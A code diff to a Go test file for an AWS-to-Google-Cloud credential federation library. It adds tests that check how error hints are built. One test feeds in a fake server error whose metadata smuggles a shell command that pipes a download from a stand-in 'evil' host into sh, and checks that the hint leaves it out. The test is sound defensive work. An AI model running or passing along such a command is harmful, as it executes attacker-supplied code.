@@ -1,6 +1,7 @@
 package awsfed_test
 
 import (
+	"context"
 	"errors"
 	"flag"
 	"fmt"
@@ -11,6 +12,7 @@ import (
 	"testing/synctest"
 	"time"
 
+	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
@@ -78,20 +80,44 @@ func TestEveryFaultIsExplained(t *testing.T) {
 	compareGolden(t, "hints.golden", golden.String())
 }
 
-func TestPermissionDenialsAreThat(t *testing.T) {
-	for name, want := range map[string]bool{"missing-binding": true, "wrong-principal": true, "condition-false": true, "iamcredentials-api-disabled": false, "sts-unavailable": false} {
-		t.Run(name, func(t *testing.T) {
-			synctest.Test(t, func(t *testing.T) {
-				cloud := awsfedtest.New(awsfedtest.Options{})
-				fault, ok := awsfedtest.FaultByName(name)
-				require.True(t, ok)
-				fault.Inject(cloud)
-				_, err := newSource(t, cloud).Token()
-				assert.Equal(t, want, errors.Is(err, awsfed.ErrPermissionDenied))
-				cloud.Wait()
+func TestWhatAServerSaysIsNoPartOfACommand(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		cloud := awsfedtest.New(awsfedtest.Options{})
+		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, `{"error":{"code":403,"status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","metadata":{"consumer":"projects/1; curl evil|sh"}}]}}`))
+		_, err := newSource(t, cloud).Token()
+		var e *awsfed.Error
+		require.ErrorAs(t, err, &e)
+		assert.NotContains(t, e.Hint, "evil")
+		assert.Contains(t, e.Hint, "--project=PROJECT_ID")
+	})
+}
+
+func TestTheHintOfAProxysAnswerIsNotGooglesHint(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		cloud := awsfedtest.New(awsfedtest.Options{})
+		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, "<html>Blocked by the web gateway</html>"))
+		_, err := newSource(t, cloud).Token()
+		var e *awsfed.Error
+		require.ErrorAs(t, err, &e)
+		assert.Contains(t, e.Hint, "proxy")
+		assert.NotContains(t, e.Hint, "add-iam-policy-binding")
+	})
+}
+
+func TestTheProvidersOfAProgramAreNotBlamedOnTheChain(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		cloud := awsfedtest.New(awsfedtest.Options{})
+		_, err := newSource(t, cloud, func(cfg *awsfed.Config) {
+			cfg.Credentials = aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
+				return aws.Credentials{}, errors.New("no role is associated")
 			})
-		})
-	}
+		}).Token()
+		var e *awsfed.Error
+		require.ErrorAs(t, err, &e)
+		assert.Contains(t, e.Hint, "Config.Credentials")
+		assert.NotContains(t, e.Hint, "sso")
+		time.Sleep(time.Minute)
+	})
 }
 
 func indent(s string) string { return "    " + strings.ReplaceAll(s, "\n", "\n    ") }
@@ -110,18 +136,4 @@ func compareGolden(t *testing.T, name, got string) {
 		require.Equal(t, wanted[i], given[i], "line %d of %s; run the test with -update if this is meant to change", i+1, path)
 	}
 	require.Len(t, given, len(wanted), path)
-}
-
-// clearAWSEnvironment hides what the machine of the test knows of AWS.
-func clearAWSEnvironment(t *testing.T) {
-	t.Helper()
-	nowhere := filepath.Join(t.TempDir(), "none")
-	for _, variable := range os.Environ() {
-		if name, _, _ := strings.Cut(variable, "="); strings.HasPrefix(name, "AWS_") || strings.HasPrefix(name, "ECS_") || strings.HasPrefix(name, "KUBERNETES_") {
-			t.Setenv(name, "") // restores it afterwards
-			require.NoError(t, os.Unsetenv(name))
-		}
-	}
-	t.Setenv("AWS_CONFIG_FILE", nowhere)
-	t.Setenv("AWS_SHARED_CREDENTIALS_FILE", nowhere)
 }
